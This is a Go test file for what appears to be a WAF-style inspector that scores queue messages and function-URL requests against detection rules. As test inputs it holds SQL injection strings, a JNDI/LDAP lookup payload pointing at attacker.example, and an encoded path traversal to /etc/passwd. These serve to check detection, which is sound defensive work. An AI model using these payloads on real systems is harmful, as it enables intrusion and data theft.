package inspect

import (
	"slices"
	"strings"
	"testing"

	"weir/inspect/source"
)

func TestADeclaredKindLeavesItsRulesOutInItsFieldsAlone(t *testing.T) {
	const statement = "SELECT a FROM b WHERE c = 'x' OR 1=1 -- y"
	for _, c := range []struct {
		name   string
		fields []FieldKind
		event  string
		bad    bool
	}{
		{"nothing declared", nil, queue(`{"query":"` + statement + `"}`), true},
		{"the field", []FieldKind{{"sqs", "Records[*].body*query", source.Code}}, queue(`{"query":"` + statement + `"}`), false},
		{"another field", []FieldKind{{"sqs", "Records[*].body*query", source.Code}}, queue(`{"note":"` + statement + `"}`), true},
		{"another source", []FieldKind{{"sns", "*query", source.Code}}, queue(`{"query":"` + statement + `"}`), true},
		{"a kind that leaves nothing out", []FieldKind{{"sqs", "*query", source.Token}}, queue(`{"query":"` + statement + `"}`), true},
		{
			"the first that fits",
			[]FieldKind{{"sqs", "*query", source.Unknown}, {"sqs", "*", source.Code}},
			queue(`{"query":"` + statement + `"}`), true,
		},
		{
			"an attack of another family",
			[]FieldKind{{"sqs", "*query", source.Code}},
			queue(`{"query":"${jndi:ldap://attacker.example/a}"}`), true,
		},
		{
			"an argument of a request",
			[]FieldKind{
				{"function-url", "*query.q", source.Code},
				{"function-url", "rawQueryString.q", source.Code},
				{"function-url", "queryStringParameters.q", source.Code},
			},
			functionURL("/", "q=1%27+OR+1%3D1+--+x", "text/plain", "", false), false,
		},
	} {
		options := patient()
		options.Fields = c.fields
		v, _ := judge(t, options, c.event)
		if bad := v.Score >= 5; bad != c.bad {
			t.Errorf("%s: score %d, matches %+v", c.name, v.Score, v.Matches)
		}
	}
}

// What an outer reading has judged as a log, an envelope may hold as something else: it is judged again.
func TestATextIsJudgedByEveryKindThatItHas(t *testing.T) {
	const inner = `{"Records":[{"eventSource":"aws:sqs","messageId":"1","body":"1' OR 1=1 -- x"}]}`
	options := patient()
	options.Fields = []FieldKind{{"sqs", "Records[0].body → Records[0].body", source.Unknown}, {"sqs", "Records[0].body", source.Log}}
	if v, _ := judge(t, options, queue(inner)); !slices.Contains(ids(v), 942100) {
		t.Errorf("%+v", v.Matches)
	}
}

func TestThePartsOfARequestAreJudgedByAllRules(t *testing.T) {
	if v, _ := judge(t, patient(), functionURL("/x%252Fetc%252Fpasswd", "", "text/plain", "", false)); !slices.Contains(ids(v), 930120) {
		t.Errorf("a path is of the kind path, and all rules count on it: %v", ids(v))
	}
}

func TestWhatIsHarmlessInARequestDoesNotCount(t *testing.T) {
	for _, c := range []struct {
		query, attack string
		rule          int
	}{
		{"%24orderby=name", "%24where=name", 942290},
		{"q=%22Select%22+box", "q=%22%3Bselect+1,2+from+box", 942190},
		{"q=Union+vote%3A+select+delegates+from+here", "q=1+union+select+delegates+from+users", 942270},
	} {
		for query, want := range map[string]bool{c.query: false, c.attack: true, c.query + "&" + c.attack: true} {
			v, _ := judge(t, patient(), functionURL("/", query, "text/plain", "", false))
			if got := slices.Contains(ids(v), c.rule); got != want {
				t.Errorf("%s: %d matches: %v (%v)", query, c.rule, got, ids(v))
			}
		}
	}
}

func TestABodyThatIsNoFormIsNotReadAsOne(t *testing.T) {
	const calendar = "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nSUMMARY:Tea & talk\r\nEND:VCALENDAR\r\n"
	if v, _ := judge(t, patient(), functionURL("/", "", "text/calendar", calendar, false)); v.Score >= 5 && slices.Contains(ids(v), 921150) {
		t.Errorf("%v", v.Matches)
	}
	const form = "a=1&b=1%27+OR+1%3D1+--+x"
	for _, kind := range []string{"application/x-www-form-urlencoded", "text/plain", "application/octet-stream", ""} {
		if v, _ := judge(t, patient(), functionURL("/", "", kind, form, false)); !slices.Contains(ids(v), 942100) {
			t.Errorf("a form as %q: %v", kind, v.Matches)
		}
	}
}

func TestXMLThatIsWellFormedIsNoBrokenBody(t *testing.T) {
	const call = "<?xml version=\"1.0\"?><methodCall><params><param><value>1</value></param></params></methodCall>"
	for body, want := range map[string]bool{call: false, strings.Replace(call, "</value>", "</wert>", 1): true} {
		v, _ := judge(t, patient(), functionURL("/", "", "text/xml", body, false))
		if got := slices.Contains(ids(v), 200002); got != want {
			t.Errorf("%s: %v", body, v.Matches)
		}
	}
}
